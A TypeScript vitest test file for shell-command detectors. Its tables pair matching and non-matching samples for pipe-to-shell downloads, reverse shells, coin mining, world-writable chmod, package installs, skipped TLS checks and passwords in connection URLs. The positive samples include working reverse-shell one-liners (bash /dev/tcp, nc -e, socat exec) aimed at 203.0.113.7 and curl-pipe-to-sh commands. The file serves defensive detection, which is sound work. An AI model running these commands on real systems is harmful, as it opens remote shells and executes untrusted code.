import { describe, expect, it } from "vitest"
import {
  ignoredCertificates,
  installedBy,
  makesWorldWritable,
  minesCoins,
  opensReverseShell,
  runsDownload,
  takeWriteFromOthers,
} from "./command-patterns.ts"
import { passwordInUrl } from "./credentials.ts"

/** Each pattern with texts that it is about, and texts that only look alike. */
const tables: readonly (readonly [string, (text: string) => boolean, readonly string[], readonly string[]])[] = [
  [
    "runs what it downloads",
    runsDownload,
    [
      "curl -fsSL https://get.example/install | sh",
      "wget -qO- http://x.example/a.sh | sudo bash -s -- -y",
      "curl https://x.example/run.py | /usr/bin/python3 -",
      'sh -c "$(curl -fsSL https://x.example)"',
      "bash <(curl -s https://x.example)",
      'eval "$(wget -qO- https://x.example)"',
    ],
    [
      "curl -fsS http://localhost/healthz | grep ok",
      "curl -o /tmp/a.sh https://x.example/a.sh; ls | sh /app/start.sh",
      "curl https://x.example | shasum -c",
      "curl https://x.example/bash | tee /out",
    ],
  ],
  [
    "opens a reverse shell",
    opensReverseShell,
    [
      "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
      "exec 5<>/dev/tcp/203.0.113.7/443; cat <&5",
      "nc -e /bin/sh 203.0.113.7 4444",
      "nc 203.0.113.7 4444 -e /bin/bash",
      "ncat --exec /bin/sh 203.0.113.7 4444",
      "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f",
      "socat tcp:203.0.113.7:443 exec:/bin/sh,pty",
      "python3 -c 'import pty,socket; s=socket.socket(); pty.spawn(\"/bin/sh\")'",
    ],
    [
      "until nc -z database 5432; do sleep 1; done",
      "nc -zv -w 5 redis 6379",
      "socat TCP-LISTEN:8080,fork TCP:backend:80",
      "mkfifo /var/log/pipe && app",
      "encrypt --pty",
    ],
  ],
  [
    "mines",
    minesCoins,
    ["xmrig --donate-level=1", "-o stratum+tcp://pool.example:3333", "--coin=monero"],
    ["stratum", "--coin-api=https://prices.example", "terminerd-x"],
  ],
  [
    "makes files writable for all",
    makesWorldWritable,
    ["chmod 777 /data", "chmod -R 0777 /data", "chmod a+rwx /x", "chmod 666 f", "chmod 1777 /tmp"],
    ["chmod 755 /data", "chmod 0750 /data", "chmod +x run.sh", "chmod u+w f", "chmod g+w f"],
  ],
  [
    "installs packages",
    (text) => installedBy(text) !== undefined,
    [
      "apt-get update && apt-get install -y curl",
      "apk add --no-cache bash",
      "pip install requests",
      "python3 -m pip install x",
    ],
    ["npm install", "npm run install", "helm install app", "apt-cache search x", "kubectl apk address"],
  ],
  [
    "ignores certificates",
    (text) => ignoredCertificates(text) !== undefined,
    ["curl -k https://x", "curl -sSk https://x", "curl --insecure https://x", "app --insecure-skip-tls-verify=true"],
    [
      "curl -K config https://x",
      "app --insecure-skip-tls-verify=false",
      "curl https://x | sort -k 2",
      "app --insecure",
    ],
  ],
  [
    "carries a password in an address",
    passwordInUrl,
    ["postgres://app:hunter22@db:5432/shop", "redis://:s3cr3t@cache:6379", "x=amqp://a:b@rabbit"],
    ["postgres://app@db/shop", "http://host:8080/@path", "redis://:$(PASSWORD)@cache", "https://{{user}}:{{pass}}@h"],
  ],
]

describe.each(tables)("%s", (_name, matches, yes, no) => {
  it.each(yes)("%s", (text) => expect(matches(text)).toBe(true))
  it.each(no)("not: %s", (text) => expect(matches(text)).toBe(false))
})

describe("patterns", () => {
  it("take write from others and from nobody else", () => {
    expect(takeWriteFromOthers("chmod -R 777 /data && chmod a+w /x")).toBe("chmod -R 775 /data && chmod ug+w /x")
    expect(takeWriteFromOthers("chmod 755 /data")).toBe("chmod 755 /data")
  })

  it("stay linear on hostile text", () => {
    const hostile = [
      "curl ".repeat(20_000),
      "a://".repeat(20_000),
      "nc -".repeat(20_000),
      "chmod -a ".repeat(20_000),
      "a://b:".repeat(15_000),
      "apt -x ".repeat(15_000),
    ]
    for (const [, matches] of tables) for (const text of hostile) expect(matches(text)).toBeTypeOf("boolean")
  })
})
